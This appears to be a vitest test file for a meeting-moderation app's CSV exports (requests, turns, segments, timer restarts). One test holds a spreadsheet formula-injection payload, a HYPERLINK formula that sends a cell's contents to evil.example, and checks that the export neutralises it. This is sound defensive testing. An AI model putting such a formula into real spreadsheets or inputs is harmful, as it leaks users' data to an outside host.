/**
 * Spreadsheet formula injection, end to end: a phone asks for the floor for a "delegation" that is
 * a formula, and the requests CSV the secretariat downloads over HTTP holds it as guarded text.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { parseCsv } from '../../shared/programmeCsv.ts';
import { SESSION, startServer, TOKEN, type TestServer } from './helpers.ts';

const MINUTE = 60_000;

let server: TestServer | null = null;
afterEach(async () => {
  await server?.close();
  server = null;
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';

/** A meeting with its floor open, and a phone that has asked for it for `delegation`. */
async function askedFromThePhone(deviceKey: string, delegation: string): Promise<TestServer> {
  const started = await startServer();
  const moderator = await started.moderator();
  for (const command of [
    { type: 'session.start' },
    { type: 'segment.end' },
    { type: 'floor.open' },
  ]) {
    expect(await moderator.command(command)).toMatchObject({ ok: true });
  }
  const phone = await started.connect({ deviceKey });
  expect(
    await phone.command({ type: 'floor.request', delegation, kind: 'statement' }),
  ).toMatchObject({ ok: true });
  return started;
}

describe('the requests CSV', () => {
  it('writes a formula typed on a phone as text, behind a single quote', async () => {
    server = await askedFromThePhone('phone-of-mallory-0123456789abcdef', HYPERLINK);

    const res = await server.http(
      'GET',
      `/api/sessions/${SESSION}/record?format=csv&table=requests`,
      { token: TOKEN },
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const [header, row] = parseCsv(res.text, ',');
    const delegation = row?.cells[header?.cells.indexOf('delegation') ?? -1];
    expect(delegation).toBe(`'${HYPERLINK}`);
    expect(delegation?.startsWith("'=")).toBe(true);
  });
});

describe('the record as CSV', () => {
  it('writes every table, with semicolons when asked, local times named by their zone, and a byte order mark', async () => {
    server = await askedFromThePhone('phone-of-abidjan-0123456789abcdef', 'Côte d’Ivoire; Ghana');

    for (const table of ['turns', 'requests', 'segments']) {
      const res = await fetch(
        `${server.url}/api/sessions/${SESSION}/record?format=csv&table=${table}&delimiter=semicolon`,
        { headers: { authorization: `Bearer ${TOKEN}` } },
      );
      expect(res.status).toBe(200);
      expect(res.headers.get('content-disposition')).toContain(`${SESSION}-${table}.csv`);
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder().decode(bytes);
      const [header, ...rows] = parseCsv(text, ';');
      expect(header?.cells.length).toBeGreaterThan(5);
      // No turn yet: the turns table is its header alone.
      expect(rows.length).toBe(table === 'turns' ? 0 : table === 'requests' ? 1 : 3);
      if (table === 'requests') {
        const cells = header?.cells ?? [];
        const row = rows[0]?.cells ?? [];
        expect(row[cells.indexOf('delegation')]).toBe('Côte d’Ivoire; Ghana');
        expect(row[cells.indexOf('requested_at (Europe/Amsterdam)')]).toMatch(
          /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/,
        );
      }
    }

    const comma = await server.http(
      'GET',
      `/api/sessions/${SESSION}/record?format=csv&table=segments`,
      { token: TOKEN },
    );
    expect(comma.text.split('\r\n')[0]).toBe(
      'segment,title,kind,budget_s,planned_s,started_at (Europe/Amsterdam),ended_at (Europe/Amsterdam),actual_s,spoken_s,turns',
    );
  });
});

describe('the turns CSV after a restart of the clock', () => {
  it('counts the speech before the restart in spoken_s, not in paused_s, and says when the clock was restarted', async () => {
    server = await startServer();
    const moderator = await server.moderator();
    const send = async (command: Record<string, unknown>) =>
      expect(await moderator.command(command)).toMatchObject({ ok: true });
    await send({ type: 'session.start' });
    await send({ type: 'speaker.next', start: true });
    // Five minutes in (10:05 in The Hague), the moderator restarts the clock; the speaker goes on
    // 20 s later, for two more minutes.
    server.fake.advance(5 * MINUTE);
    await send({ type: 'timer.reset' });
    server.fake.advance(20_000);
    await send({ type: 'timer.start' });
    server.fake.advance(2 * MINUTE);
    await send({ type: 'speaker.finish' });

    const res = await server.http('GET', `/api/sessions/${SESSION}/record?format=csv&table=turns`, {
      token: TOKEN,
    });
    expect(res.status).toBe(200);
    const [header, row] = parseCsv(res.text, ',');
    const cell = (column: string) => row?.cells[header?.cells.indexOf(column) ?? -1];
    expect(cell('spoken_s')).toBe('420');
    expect(cell('paused_s')).toBe('20');
    expect(cell('corrected_spoken_s')).toBe('420');
    expect(cell('restarted_at (Europe/Amsterdam)')).toBe('2016-11-16 10:05:00');

    // The JSON record says the same, in milliseconds.
    const json = await server.http('GET', `/api/sessions/${SESSION}/record`, { token: TOKEN });
    expect(json.json.turns[0]).toMatchObject({
      spokenMs: 7 * MINUTE,
      restarts: [{ spokenMs: 5 * MINUTE }],
    });
  });
});
